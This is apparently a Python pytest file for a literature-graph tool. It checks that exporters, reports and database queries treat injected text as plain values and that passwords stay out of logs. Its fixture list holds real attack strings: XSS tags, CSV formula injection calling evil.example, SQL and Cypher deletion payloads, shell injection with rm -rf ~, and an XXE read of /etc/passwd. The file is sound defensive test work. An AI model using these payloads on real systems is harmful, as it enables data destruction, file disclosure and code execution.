"""Titles, names, addresses and sentences that are orders to whoever reads what litweave writes."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import subprocess
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from fixtures import concept, paper, use, write_graph
from litweave.export import EXPORTERS
from litweave.export.options import Options
from litweave.graph import Graph
from litweave.report import write as write_report
from litweave.server import Login, find_login

ORDERS = (
    '<script>alert("x")</script>',
    "</title><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx=1",
    "'; DROP TABLE papers; --",
    "x'}) DETACH DELETE n //",
    "`rm -rf ~` $(touch pwned) ; touch pwned",
    '"><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "]]><key id='k' attr.name='x'/>",
    "\u202etxt.exe",
)


@pytest.fixture
def graph(tmp_path: Path) -> Graph:
    """A graph in which every text is an order."""
    papers = [
        paper(f"title:{n:02}", order, "2024", abstract=order, venue=order)
        for n, order in enumerate(ORDERS)
    ]
    concepts = [concept(f"method:c{n:02}", order, order) for n, order in enumerate(ORDERS)]
    uses = [
        use(one["id"], other["id"], "introduced", evidence=ORDERS[n])
        for n, one in enumerate(papers)
        for other in (concepts[n], concepts[(n + 1) % len(concepts)])
    ]
    return write_graph(tmp_path / "graph", papers=papers, concepts=concepts, uses=uses, links=[])


def test_no_cell_of_any_csv_is_a_formula(graph: Graph, tmp_path: Path) -> None:
    EXPORTERS["csv"](graph, tmp_path / "csv", Options(text=True))
    write_report(graph, tmp_path / "report")
    files = [*(tmp_path / "csv").glob("*.csv"), *(tmp_path / "report").glob("*.csv")]
    assert len(files) > 3
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                number = re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)
                assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)


def test_pages_hold_no_order_as_markup(graph: Graph, tmp_path: Path) -> None:
    from litweave.analysis.notebook import as_html
    from litweave.explore import write as write_page

    write_report(graph, tmp_path / "report")
    write_page(graph, tmp_path / "page.html")
    pages = {
        "report": (tmp_path / "report" / "index.html").read_text(encoding="utf-8"),
        "explorer": (tmp_path / "page.html").read_text(encoding="utf-8"),
        "notebook": as_html(graph),
    }
    for name, page in pages.items():
        for order in ORDERS:
            if "<" in order:
                assert order not in page, (name, order)
        assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*javascript:""", page, re.IGNORECASE)
    for svg in (tmp_path / "report").glob("*.svg"):
        tags = {node.tag.rpartition("}")[2] for node in ET.parse(svg).iter()}  # noqa: S314 - ours
        assert tags.isdisjoint({"script", "img", "a", "foreignObject"})


@pytest.mark.parametrize("form", ["graphml", "gexf"])
def test_xml_holds_orders_as_text(graph: Graph, tmp_path: Path, form: str) -> None:
    out = tmp_path / f"graph.{form}"
    EXPORTERS[form](graph, out, Options(text=True))
    tree = ET.parse(out)  # noqa: S314 - ours
    texts = {node.text for node in tree.iter()} | {
        v for n in tree.iter() for v in n.attrib.values()
    }
    tags = {node.tag.rpartition("}")[2] for node in tree.iter()}
    assert "script" not in tags
    assert "img" not in tags
    assert '<script>alert("x")</script>' in texts


@pytest.mark.parametrize("form", ["json", "jsonld", "vosviewer"])
def test_json_is_json(graph: Graph, tmp_path: Path, form: str) -> None:
    out = tmp_path / "graph.json"
    EXPORTERS[form](graph, out, Options(text=True))
    assert json.loads(out.read_text(encoding="utf-8"))


def test_the_import_script_runs_nothing_of_the_graph(graph: Graph, tmp_path: Path) -> None:
    out = tmp_path / "it's; touch pwned $(touch pwned)"
    EXPORTERS["neo4j-admin"](graph, out, Options())
    admin = tmp_path / "neo4j-admin"
    admin.write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$0.said"\n', encoding="utf-8")
    admin.chmod(0o755)
    subprocess.run(
        ["sh", str(out / "import.sh")],
        env={"NEO4J_ADMIN": str(admin), "PATH": "/usr/bin:/bin"},
        check=True, capture_output=True,
    )  # fmt: skip
    said = (tmp_path / "neo4j-admin.said").read_text(encoding="utf-8").splitlines()
    assert said[:3] == ["database", "import", "full"]
    assert not list(tmp_path.rglob("pwned"))


def test_a_database_gets_orders_as_values(graph: Graph) -> None:
    answer = graph.query(
        "MATCH (m:Method {name: $name}) RETURN m.name", name="x'}) DETACH DELETE n //"
    )
    assert answer.rows == [("x'}) DETACH DELETE n //",)]
    assert graph.query("MATCH (p:Paper) RETURN count(p)").rows == [(len(ORDERS),)]


def test_secrets_are_shown_nowhere(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    from litweave.errors import ServerError
    from litweave.server import connect

    file = tmp_path / "password"
    file.write_text("s3cret-word\n", encoding="utf-8")
    caplog.set_level(logging.DEBUG)
    for login in (
        Login("bolt://127.0.0.1:9", "neo4j", "s3cret-word"),
        find_login({}, uri="bolt://127.0.0.1:9", password_file=file),
        Login("bolt://neo4j:s3cret-word@127.0.0.1:9", "neo4j", "s3cret-word"),
        find_login({"NEO4J_PASSWORD": "other-s3cret"}, uri="bolt://127.0.0.1:9"),
    ):
        assert login.password
        with pytest.raises(ServerError) as caught, connect(login):
            pass
        shown = (
            f"{login!r} {login} {caught.value} {caught.value!r} {vars(caught.value)} {caplog.text}"
        )
        assert "s3cret" not in shown
